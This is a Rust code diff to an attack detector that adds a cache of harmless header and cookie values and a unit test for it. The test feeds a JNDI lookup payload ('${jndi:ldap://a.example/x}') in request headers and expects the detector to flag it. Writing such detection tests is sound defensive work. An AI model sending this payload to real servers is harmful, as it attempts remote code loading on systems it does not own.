@@ -19,6 +19,8 @@
 //! Quiet when: signs of these languages stand where they do nothing: names with apostrophes, formulas, regular expressions, templates
 //! with names in them, markup of editors, source code in fields for it, documents that quote an attack.
 
+use std::cell::Cell;
+
 use memchr::memmem;
 use serde_json::json;
 
@@ -29,6 +31,7 @@ use crate::behaviour::{Activity, World};
 use crate::finding::ledger::{Draft, Ledger, Subject, day};
 use crate::finding::words::{many, sentence};
 use crate::finding::{Finding, Kind, Severity};
+use crate::id::Seed;
 use crate::privacy::safe_name;
 
 /// Attacks of one exchange that are told, of a class each.
@@ -44,21 +47,46 @@ struct Found {
     name: Vec<u8>,
 }
 
+/// Fields of heads and cookies that were looked at and are no attacks, by keyed hash: nearly all are the same in many requests. It
+/// remembers and decides nothing: the same with it and without.
+#[derive(Debug)]
+pub(crate) struct Harmless(Box<[Cell<u64>]>);
+
+impl Default for Harmless {
+    fn default() -> Self {
+        Self(vec![Cell::new(0); Self::ROOM].into())
+    }
+}
+
+impl Harmless {
+    const ROOM: usize = 4096;
+
+    /// The place of an input, and what stands there when it is known; nothing for inputs that hardly ever come again.
+    fn of(&self, input: &Input<'_>, seed: Seed) -> Option<(&Cell<u64>, u64)> {
+        if !matches!(input.place, Place::Field | Place::Cookie) || input.value.len() < 8 {
+            return None;
+        }
+        let name = seed.hash(input.name).rotate_left(input.place as u32 + 7);
+        let hash = (seed.hash(input.value) ^ name) | 1;
+        Some((self.0.get((hash >> 8) as usize % Self::ROOM)?, hash))
+    }
+}
+
 /// Looks at one exchange.
-pub(crate) fn observe(activity: &Activity<'_>, world: &World<'_>, ledger: &mut Ledger) {
+pub(crate) fn observe(activity: &Activity<'_>, harmless: &Harmless, world: &World<'_>, ledger: &mut Ledger) {
     let body = match activity.call {
         // What people and programs write to a model is for it to read.
         _ if activity.llm.is_some() => Body::None,
         Some(call) if call.protocol == "mcp" => Body::Tools,
         _ => Body::All,
     };
-    for found in find(activity.request, body) {
+    for found in find(activity.request, body, Some((harmless, world.seed))) {
         report(activity, &found, world, ledger);
     }
 }
 
 /// The attacks in a request, the first of each class.
-fn find(request: &reassembly::Request, body: Body) -> Vec<Found> {
+fn find(request: &reassembly::Request, body: Body, harmless: Option<(&Harmless, Seed)>) -> Vec<Found> {
     let mut all: Vec<Found> = Vec::new();
     let mut forms = Forms::default();
     let mut add = |attack: Attack, place: Place, name: &[u8]| {
@@ -71,8 +99,13 @@ fn find(request: &reassembly::Request, body: Body) -> Vec<Found> {
         }
     };
     inputs::each(request, body, &mut |input: Input<'_>| {
-        if let Some(attack) = attack::look(&input, &mut forms) {
-            add(attack, input.place, input.name);
+        let known = harmless.and_then(|(all, seed)| all.of(&input, seed));
+        if known.is_some_and(|(place, hash)| place.get() == hash) {
+            return;
+        }
+        match attack::look(&input, &mut forms) {
+            Some(attack) => add(attack, input.place, input.name),
+            None => known.into_iter().for_each(|(place, hash)| place.set(hash)),
         }
     });
     inputs::operators(request, body, &mut |owner, operator, value, place| {
@@ -280,5 +313,31 @@ pub(crate) fn explain(finding: &Finding) -> String {
 /// The classes of attacks in a request.
 #[cfg(test)]
 pub(crate) fn classes(request: &reassembly::Request, body: Body) -> Vec<Class> {
-    find(request, body).iter().map(|f| f.attack.class).collect()
+    find(request, body, None).iter().map(|f| f.attack.class).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::{Call, START};
+
+    #[test]
+    fn what_is_remembered_of_harmless_fields_changes_nothing() {
+        let (harmless, seed) = (Harmless::default(), Seed::new(&[7; 32]));
+        let all = [
+            ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", 0),
+            ("Accept-Language: en-US,en;q=0.9", 0),
+            ("X-Note: ${jndi:ldap://a.example/x}", 1),
+            ("Referer: ${jndi:ldap://a.example/x}", 1),
+            ("X-Note: en-US,en;q=0.9", 0),
+            ("Cookie: theme=dark; note=en-US,en", 0),
+        ];
+        for (field, attacks) in all.iter().chain(&all) {
+            let exchange = Call::get("/x").field(field).exchange(START * 1_000_000_000, 1);
+            let request = exchange.request.unwrap();
+            let found = find(&request, Body::All, Some((&harmless, seed)));
+            assert_eq!(found.len(), *attacks, "{field}");
+        }
+        assert!(harmless.0.iter().any(|place| place.get() != 0));
+    }
 }
